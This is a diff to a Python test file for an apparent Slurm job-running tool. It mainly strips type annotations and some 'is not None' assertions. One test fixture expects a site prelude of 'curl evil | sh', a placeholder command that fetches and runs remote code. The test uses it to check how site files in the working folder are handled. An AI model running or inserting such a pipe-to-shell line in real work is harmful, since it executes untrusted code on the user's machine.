@@ -199,9 +199,7 @@ def test_the_script_of_an_engine_ends_a_run_that_prints_no_more_steps(
 
 @settings(max_examples=examples(25))
 @given(name=TEXT.filter(str.isprintable), words=st.lists(TEXT, max_size=3), value=TEXT)
-def test_a_node_runs_the_very_words_of_a_template(
-    tmp_path_factory: pytest.TempPathFactory, name: str, words: list[str], value: str
-) -> None:
+def test_a_node_runs_the_very_words_of_a_template(tmp_path_factory, name, words, value) -> None:
     """And tells of its start and its end; the last word of the command is a variable's value."""
     folder = tmp_path_factory.mktemp("node") / f"job {name}".replace("/", "_")
     folder.mkdir()
@@ -244,13 +242,10 @@ def test_an_unknown_site_says_where_it_was_looked_for(tmp_path: Path, monkeypatc
     (tmp_path / "fourfold").mkdir()
     (tmp_path / "fourfold" / "juwels.toml").write_text('partition = "booster"\n')
     site = read_site("juwels")
-    assert site is not None
     assert (site.name, site.partition) == ("juwels", "booster")
 
 
-def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(
-    tmp_path: Path, monkeypatch
-) -> None:
+def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(tmp_path, monkeypatch) -> None:
     """Its lines are run as they are."""
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "none"))
@@ -258,7 +253,6 @@ def test_a_site_in_the_folder_one_happens_to_be_in_is_not_taken(
     with pytest.raises(UserError, match="unknown site"):
         read_site("mine")
     site = read_site("./mine.toml")
-    assert site is not None
     assert site.prelude == ("curl evil | sh",)
 
 
@@ -295,11 +289,9 @@ def test_a_job_submitted_by_hand_is_known_by_its_newest_log(tmp_path: Path) -> N
     for name in ("slurm-9.log", "slurm-10.log", "slurm-x.log"):
         (tmp_path / name).touch()
     known = submitted(tmp_path)
-    assert known is not None
     assert known.id == "10"
     (tmp_path / "slurm.json").write_text(codec.to_json(Submitted(id="7", tasks=(0,))))
     known = submitted(tmp_path)
-    assert known is not None
     assert known.id == "7"
 
 
@@ -342,9 +334,7 @@ def tell(folder: Path, *news: dict[str, object]) -> None:
         ("NODE_FAIL", "lost n2"),
     ],
 )
-def test_what_the_scheduler_did_explains_exits_by_a_signal(
-    tmp_path: Path, state: str, words: str
-) -> None:
+def test_what_the_scheduler_did_explains_exits_by_a_signal(tmp_path, state, words) -> None:
     ranks = ranks_of(tmp_path, state)
     tell(tmp_path, {"rank": 0, "pid": 7, "host": "n1"}, {"rank": 0, "code": -15, "at": 1.0})
     assert ranks.poll()
@@ -360,7 +350,6 @@ def test_a_cancelled_engine_is_cancelled_though_its_nodes_tell_of_their_end(tmp_
     tell(tmp_path, *({"rank": node, "code": 0, "at": 1.0, "host": "n1"} for node in (0, 1)))
     ranks.poll()
     ranks.poll()
-    assert ranks.scene.by_scheduler is not None
     assert ranks.scene.by_scheduler[0] == "cancelled"
 
 
